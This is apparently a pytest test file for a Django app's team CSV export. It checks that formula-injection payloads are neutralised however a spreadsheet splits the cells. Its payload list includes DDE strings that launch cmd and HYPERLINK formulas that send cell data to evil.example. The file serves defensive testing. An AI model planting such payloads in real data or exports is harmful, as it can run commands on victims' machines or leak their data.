"""CSV export: no cell, and no piece of a cell a spreadsheet may split off, runs as a formula.

OWASP's CSV injection guidance: a cell that starts with = + - @ (or a tab, a carriage return)
is read as a formula. Spreadsheets set to another separator (a semicolon in many locales, a tab,
a pipe) split our cells there, so every piece is checked as well, the way each reader splits.
"""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from injuries.export import FORMULA_STARTS, _cell
from tests.factories import AthleteFactory, InjuryFactory

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "';=cmd|' /C calc'!A0'",  # the issue's: a semicolon-locale spreadsheet makes "=cmd..." a cell
    "Ann;=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "Ann,=1+1",
    "Ann\t=1+1",
    "Ann|=1+1",
    "Ann; =1+1",
    'Ann;"=1+1"',
    "Ann;\t@SUM(1)",
    "Ann\r\n=1+1",
    "Ann\n+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\x00=1",
    "＝1+1",  # full-width equals
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "@@@",
    "a;b;c;-2+3",
    '=HYPERLINK("http://evil.example","click")',
]
DELIMITERS = [",", ";", "\t", "|"]


def _around_today():
    today = timezone.localdate()
    return {"start": (today - timedelta(days=365)).isoformat(), "end": (today + timedelta(days=1)).isoformat()}


def _pieces(text):
    """Every piece of the text a spreadsheet may see as a cell's start, whatever it splits on."""
    pieces = [text]
    for separator in [",", ";", "\t", "|", "\r", "\n"]:
        pieces = [part for piece in pieces for part in piece.split(separator)]
    return pieces


def _is_formula(piece):
    start = piece.lstrip(' "\t\r\n\u00a0')
    return bool(start) and start[0] in FORMULA_STARTS


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_piece_of_a_cell_starts_a_formula(payload):
    assert any(_is_formula(piece) for piece in _pieces(payload))  # the payload is a real one
    cell = _cell(payload)
    assert not [piece for piece in _pieces(cell) if _is_formula(piece)], cell
    assert cell.replace("'", "") == payload.replace("'", "")  # only quotes added: nothing lost


@pytest.mark.parametrize("text", ["Ann Smith", "Jean-Luc", "O'Neil", "2026-02-10", "grade_1", "", None, "a=b", "x+y"])
def test_ordinary_text_is_unchanged(text):
    assert _cell(text) == ("" if text is None else text)


@pytest.mark.calendar
def test_the_team_export_neutralises_every_payload_however_it_is_read(coach_client, world):
    stored = [payload for payload in PAYLOADS if "\x00" not in payload]  # PostgreSQL refuses NUL in text
    for payload in stored:
        InjuryFactory(complaint__athlete=AthleteFactory(team=world.team, first_name=payload, last_name=payload[::-1]))
    world.team.name = "Alpha;=1+1"
    world.team.save()
    response = coach_client.get(reverse("team_export", args=[world.team.pk]), _around_today())
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    assert text.count("\n") > len(stored)
    for delimiter in DELIMITERS:  # read as each locale's spreadsheet would
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                assert not [piece for piece in _pieces(cell) if _is_formula(piece)], (delimiter, cell)
    for line in text.splitlines():  # and split naively, quotes ignored
        assert not [piece for piece in _pieces(line) if _is_formula(piece)], line
